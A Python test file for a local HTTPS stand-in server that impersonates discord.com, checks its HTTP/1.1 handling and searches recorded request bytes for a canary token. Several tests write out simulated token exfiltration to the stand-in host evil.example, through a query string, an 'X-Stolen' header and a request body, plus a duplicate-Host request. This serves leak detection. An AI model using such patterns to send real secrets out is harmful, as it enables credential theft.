"""HTTP/1.1 as the stand-in speaks it, and what it keeps of what it received."""

from __future__ import annotations

import os
import socket
import ssl
import threading

import httpx
import pytest

from tests.standin import Answer, Ending, Mishap, Seen, StandIn, client_of

CANARY = b"canary-token-0123456789"


def exchange(standin: StandIn, sent: bytes, sni: str = "discord.com") -> bytes:
    """Send bytes over TLS, half-close nothing, and read until the server closes."""
    context = ssl.create_default_context(cafile=standin.ca_file)
    with (
        socket.create_connection(("127.0.0.1", standin.https_port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname=sni) as tls,
    ):
        tls.sendall(sent)
        return read_to_the_end(tls)


def read_to_the_end(connection: socket.socket) -> bytes:
    """All that comes until the server closes."""
    received = b""
    while chunk := connection.recv(65536):
        received += chunk
    return received


def test_one_connection_carries_many_requests(standin: StandIn) -> None:
    with client_of(standin) as client:
        for number in range(3):
            assert client.post("https://discord.com/standin/echo", content=str(number)).json()["body"] == str(
                number
            )
    assert standin.connections == 1
    assert [seen.body for seen in standin.seen] == [b"0", b"1", b"2"]


def test_requests_sent_in_one_piece_are_told_apart(standin: StandIn) -> None:
    first = b"POST /standin/echo HTTP/1.1\r\nHost: discord.com\r\nContent-Length: 3\r\n\r\none"
    last = b"GET /standin/close HTTP/1.1\r\nHost: acme.example\r\n\r\n"
    exchange(standin, first + last)
    assert [(seen.method, seen.host, seen.body) for seen in standin.seen] == [
        ("POST", "discord.com", b"one"),
        ("GET", "acme.example", b""),
    ]
    assert standin.seen[1].wire == last


def test_field_names_are_kept_as_they_were_written(standin: StandIn) -> None:
    exchange(standin, b"GET /standin/close HTTP/1.1\r\nhOsT: discord.com\r\nX-A: 1\r\nx-a: 2\r\n\r\n")
    (seen,) = standin.seen
    assert seen.headers == ((b"hOsT", b"discord.com"), (b"X-A", b"1"), (b"x-a", b"2"))
    assert seen.values("X-A") == ["1", "2"]


@pytest.mark.parametrize(
    "sent",
    [
        b"GET / HTTP/1.1\r\nHost: discord.com\r\nHost: evil.example\r\nAuthorization: Bearer "
        + CANARY
        + b"\r\n\r\n",
        b"\x00\x01 not http at all " + CANARY + b"\r\n\r\n",
    ],
    ids=["two Host fields", "no HTTP"],
)
def test_a_malformed_request_is_refused_but_its_bytes_are_searched(standin: StandIn, sent: bytes) -> None:
    assert exchange(standin, sent).startswith(b"HTTP/1.1 400")
    (found,) = standin.wire_contains(CANARY)
    assert found.method == ""
    assert standin.wire_contains(b"another-canary") == []


def test_a_head_that_never_ends_is_searched(standin: StandIn) -> None:
    context = ssl.create_default_context(cafile=standin.ca_file)
    with (
        socket.create_connection(("127.0.0.1", standin.https_port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname="discord.com") as tls,
    ):
        tls.sendall(b"GET / HTTP/1.1\r\nAuthorization: Bearer " + CANARY)
        tls.unwrap().close()
    for _ in range(200):
        if standin.seen:
            break
        threading.Event().wait(0.01)
    assert len(standin.wire_contains(CANARY)) == 1


def test_tokens_are_found_in_request_line_fields_and_body(standin: StandIn) -> None:
    with client_of(standin) as client:
        token = CANARY.decode()
        client.get(f"https://evil.example/?t={token}")
        client.get("https://evil.example/", headers={"X-Stolen": token})
        client.post("https://evil.example/", content=iter([CANARY[:7], CANARY[7:]]))
        client.get("https://evil.example/")
    assert [seen.method for seen in standin.wire_contains(CANARY)] == ["GET", "GET", "POST"]


def test_only_the_beginning_of_a_long_body_is_kept(standin: StandIn) -> None:
    with client_of(standin) as client:
        answer = client.post("https://discord.com/standin/upload", content=b"x" * 200_000)
    assert answer.json() == {"received": 200_000}
    assert len(standin.seen[0].body) == 64 * 1024
    assert len(standin.seen[0].wire) == 128 * 1024


def test_forget_empties_the_list(standin: StandIn) -> None:
    with client_of(standin) as client:
        client.get("https://discord.com/")
    standin.forget()
    assert standin.seen == []


def test_the_listener_hears_of_each_request_before_its_answer() -> None:
    heard: list[Seen] = []
    with StandIn(on_seen=heard.append) as standin, client_of(standin) as client:
        client.post("https://discord.com/standin/echo", content=b"body")
        assert [seen.body for seen in heard] == [b"body"]


def test_a_client_that_waits_for_100_continue_is_told_to_go_on(standin: StandIn) -> None:
    context = ssl.create_default_context(cafile=standin.ca_file)
    head = (
        b"POST /standin/upload HTTP/1.1\r\nHost: discord.com\r\nConnection: close\r\n"
        b"Content-Length: 4\r\nExpect: 100-continue\r\n\r\n"
    )
    with (
        socket.create_connection(("127.0.0.1", standin.https_port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname="discord.com") as tls,
    ):
        tls.sendall(head)
        assert tls.recv(65536).startswith(b"HTTP/1.1 100")
        tls.sendall(b"data")
        assert tls.recv(65536).startswith(b"HTTP/1.1 200")


def test_head_gets_the_fields_of_get_without_the_body(standin: StandIn) -> None:
    with client_of(standin) as client:
        answer = client.head("https://discord.com/api/v10/gateway")
        assert answer.headers["content-length"] == "35"
        assert answer.content == b""
        assert client.get("https://discord.com/api/v10/gateway").content != b""
    assert standin.connections == 1


def test_trace_echoes_the_head_with_all_that_it_carries(standin: StandIn) -> None:
    with client_of(standin) as client:
        answer = client.request("TRACE", "https://discord.com/x", headers={"Authorization": "Bearer abc"})
    assert answer.headers["content-type"] == "message/http"
    assert answer.text.startswith("TRACE /x HTTP/1.1\r\n")
    assert "Authorization: Bearer abc\r\n" in answer.text


def test_an_answer_can_close_the_connection(standin: StandIn) -> None:
    with client_of(standin) as client:
        assert client.get("https://discord.com/standin/close").headers["connection"] == "close"
        client.get("https://discord.com/standin/echo")
    assert standin.connections == 2


def test_an_answer_can_be_cut_in_half(standin: StandIn) -> None:
    standin.discord.rest_faults.append(Mishap(ending=Ending.TRUNCATED))
    with client_of(standin) as client:
        with pytest.raises(httpx.RemoteProtocolError, match="received 17 bytes, expected 35"):
            client.get("https://discord.com/api/gateway")
        assert client.get("https://discord.com/api/gateway").status_code == 200


def test_an_answer_can_be_a_reset(standin: StandIn) -> None:
    """Read below TLS: Python 3.12 takes a reset there for an end."""
    standin.discord.rest_faults.append(Answer(ending=Ending.RESET))
    context = ssl.create_default_context(cafile=standin.ca_file)
    with (
        socket.create_connection(("127.0.0.1", standin.https_port), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname="discord.com") as tls,
        socket.socket(fileno=os.dup(tls.fileno())) as wire,
    ):
        wire.settimeout(5)
        tls.sendall(b"GET /api/gateway HTTP/1.1\r\nHost: discord.com\r\n\r\n")
        with pytest.raises(ConnectionResetError):
            read_to_the_end(wire)
    with client_of(standin) as client:
        assert client.get("https://discord.com/api/gateway").status_code == 200


def test_an_answer_can_be_late(standin: StandIn) -> None:
    standin.discord.rest_faults.append(Mishap(delay=0.15))
    with client_of(standin) as client:
        with pytest.raises(httpx.ReadTimeout):
            client.get("https://discord.com/api/gateway", timeout=0.05)
        assert client.get("https://discord.com/api/gateway", timeout=5).status_code == 200


def test_a_client_that_leaves_in_mid_answer_harms_nobody(standin: StandIn) -> None:
    with client_of(standin) as client:
        with client.stream("GET", "https://discord.com/standin/download?bytes=50000000") as answer:
            next(answer.iter_bytes())
        assert client.get("https://discord.com/api/gateway").status_code == 200
